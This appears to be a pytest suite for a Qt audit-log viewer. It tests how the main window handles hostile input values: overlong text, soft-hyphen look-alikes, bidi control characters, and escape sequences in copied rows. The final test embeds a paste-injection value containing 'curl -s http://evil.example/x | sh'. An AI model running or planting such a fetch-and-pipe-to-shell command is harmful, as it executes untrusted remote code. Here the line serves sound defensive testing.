"""The main window against hostile values (issue 17: items 5, 7, 9, 11)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from auditviewer.ui.main_window import MainWindow
from auditviewer.ui.models.table_model import COL_ACTOR
from auditviewer.workspace.store_session import load_session
from tests.helpers.bundle_builder import make_entry, signer, write_bundle
from tests.helpers.window import shown_window

KEY = signer()


@pytest.fixture
def window(qtbot: Any) -> MainWindow:
    return shown_window(qtbot, load_session, size=(1200, 800))


def open_bundle(qtbot: Any, window: MainWindow, bundle: Path) -> None:
    with qtbot.waitSignal(window.loadFinished, timeout=60_000):
        window.open_paths([str(bundle)], trust=[KEY.verifier_string])
    qtbot.waitUntil(window.is_idle, timeout=30_000)


def test_long_values_never_set_the_window_width(qtbot: Any, window: MainWindow,
                                                tmp_path: Path) -> None:
    long = "Category " + "x" * 300
    leaves = [make_entry(i, category=long, id="evt " + "y" * 400) for i in range(3)]
    bundle = write_bundle(tmp_path / "b", leaves, checkpoint_sizes=[3], key=KEY)
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["organization"]["name"] = "Org " + "z" * 400
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    open_bundle(qtbot, window, bundle)
    window.table.selectRow(0)
    qtbot.waitUntil(lambda: window.pane.entry() is not None, timeout=30_000)
    window.show_entry_pane()
    window.status("Saved " + "w" * 500)
    assert window.minimumSizeHint().width() < 1000
    assert window.pane.title.full_text().startswith("Category xxx")
    assert window.pane.title.text().endswith("…")  # elided to its width, never cut blindly


def test_lookalike_values_read_differently(qtbot: Any, window: MainWindow, tmp_path: Path) -> None:
    plain, shy = "admin@example.com", "ad\u00admin@example.com"
    leaves = [
        make_entry(0, actor={"email": plain, "type": "user"}),
        make_entry(1, actor={"email": shy, "type": "user"}, category="Nakama\u00ad Deployment",
                   resource={"type": "nakama_deployment", "id": "dep_9", "name": "pro\u00add"}),
        make_entry(2, resource={"type": "nakama_deployment", "id": "dep_8", "name": "prod"}),
    ]
    bundle = write_bundle(tmp_path / "b", leaves, checkpoint_sizes=[3], key=KEY)
    open_bundle(qtbot, window, bundle)
    facet = window.category_facet.model
    shown = {facet.index(r, 0).data() for r in range(facet.rowCount())}
    assert any("Nakama⟨U+00AD⟩ Deployment" in s for s in shown)
    assert any(s.startswith("Nakama Deployment") for s in shown)
    tree = window.scope_tree.scope_model
    labels: list[str] = []
    stack = [tree.index(r, 0) for r in range(tree.rowCount())]
    while stack:
        idx = stack.pop()
        labels.append(idx.data())
        stack.extend(tree.index(r, 0, idx) for r in range(tree.rowCount(idx)))
    assert "prod" in labels and "pro⟨U+00AD⟩d" in labels
    actors = {window.model.index(r, COL_ACTOR).data() for r in range(window.model.rowCount())}
    assert {plain, "ad⟨U+00AD⟩min@example.com"} <= actors
    # actor: matches the stored text exactly (docs/security.md): the look-alike is not
    # found by the genuine address, and shows as a visibly different value.
    window.search.set_text(f"actor:{plain}")
    window.search.apply()
    qtbot.waitUntil(lambda: window.is_idle() and window.model.rowCount() == 1, timeout=30_000)


def test_ampersand_in_recent_file_names(window: MainWindow) -> None:
    window.loading.remember(["/tmp/R&D &&x"])
    action = window.menus.recent_menu.actions()[0]
    assert action.text() == "/tmp/R&&D &&&&x"


def test_export_default_name_bounded_and_errors_in_the_dialog(
    qtbot: Any, window: MainWindow, tmp_path: Path
) -> None:
    leaves = [make_entry(i) for i in range(3)]
    bundle = write_bundle(tmp_path / "b", leaves, checkpoint_sizes=[3], key=KEY)
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["organization"]["name"] = "Acme " * 64
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    open_bundle(qtbot, window, bundle)
    dialog = window.open_export()
    assert dialog is not None
    qtbot.waitUntil(lambda: not dialog.is_busy() and dialog.plan is not None, timeout=30_000)
    assert len(Path(dialog.path_edit.text()).name) <= 100
    dialog.path_edit.setText(str(tmp_path / ("n" * 300 + ".zip")))
    with qtbot.waitSignal(dialog.exportFinished, timeout=10_000) as sig:
        dialog.hide()  # no modal box in a test; the dialog's own label says it
        dialog.start_export()
    assert sig.args[0] == "failed"
    assert dialog.error is not None and "Cannot write" in dialog.error
    assert "Export failed" in dialog.result_label.text()


def test_banner_error_line_shows_the_input_visibly() -> None:
    from auditviewer.integrity.report import Report
    from auditviewer.ui.widgets.integrity_banner import summary_line

    report = Report(status="error", origin=None, entries=0, verified_entries=0,
                    first_seq=None, last_seq=None,
                    error="cannot read /x/\u202eentries\u2028✔ Verified.jsonl")
    line = summary_line(report)
    assert "\u202e" not in line and "\u2028" not in line
    assert "⟨U+202E⟩entries⟨U+2028⟩" in line


def test_row_copies_are_exact_and_escaped(qtbot: Any, window: MainWindow, tmp_path: Path) -> None:
    from PySide6.QtGui import QGuiApplication

    hostile = "dep_7\x1b[201~\ncurl -s http://evil.example/x | sh\n\u202e\t" + "a" * 500
    leaves = [make_entry(0, actor={"email": hostile, "type": "user"})]
    bundle = write_bundle(tmp_path / "b", leaves, checkpoint_sizes=[1], key=KEY)
    open_bundle(qtbot, window, bundle)
    window.table.selectRow(0)
    window.entries.copy_selected_rows()
    text = QGuiApplication.clipboard().text()
    header, row, _ = text.split("\n")
    cells = dict(zip(header.split("\t"), row.split("\t"), strict=True))
    assert json.loads(f'"{cells["Actor"]}"') == hostile  # exact, not cut at 300
    assert "\x1b" not in text and "\u202e" not in text
    assert window.menus.copy_rows_action.text() == "&Copy Rows (TSV, JSON-escaped)"
